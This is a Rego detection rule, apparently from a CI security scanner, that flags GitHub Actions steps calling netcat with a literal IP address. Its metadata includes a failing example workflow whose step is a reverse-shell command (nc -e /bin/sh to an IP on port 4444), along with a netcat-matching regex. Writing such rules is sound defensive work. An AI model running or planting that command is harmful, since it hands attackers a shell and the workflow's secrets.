# METADATA
# title: run step opens a netcat connection to an IP address
# description: A run step calls nc/ncat/netcat with a literal IP address, the usual shape of a reverse shell or data exfiltration planted in a workflow.
# custom:
#   id: gha-netcat-reverse-shell
#   severity: high
#   kinds: [github_actions]
#   cwe: [506]
#   owasp: ["A08:2021"]
#   owasp_llm: []
#   ssdf: ["PS.1.1"]
#   rationale: Legitimate builds rarely need raw TCP to a hard-coded address; in a CI job with secrets and a token this pattern is a classic backdoor.
#   remediation: Remove the step, investigate how it got there, and rotate the secrets the workflow could read.
#   references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"]
#   aliases:
#     checkov: [CKV_GHA_4]
#   examples:
#     fail:
#       - |
#         on: push
#         jobs:
#           build:
#             runs-on: ubuntu-latest
#             steps:
#               - run: nc -e /bin/sh 203.0.113.7 4444
#     pass:
#       - |
#         on: push
#         jobs:
#           build:
#             runs-on: ubuntu-latest
#             steps:
#               - run: nc -z localhost 5432 && make test
package rampart.github.netcat_reverse_shell

import data.rampart.lib.ci_github as gh
import rego.v1

deny contains result if {
	some x in gh.steps
	is_string(x.step.run)
	regex.match(`(^|[ ;&|(])(nc|ncat|netcat) [^;&|\n]*[0-9]{1,3}[.][0-9]{1,3}[.][0-9]{1,3}[.][0-9]{1,3}`, x.step.run)
	result := {
		"msg": sprintf("%s step %d opens a netcat connection to an IP address", [x.job.address, x.index]),
		"resource": x.job.address,
		"attribute": sprintf("%s.run", [x.attribute]),
	}
}
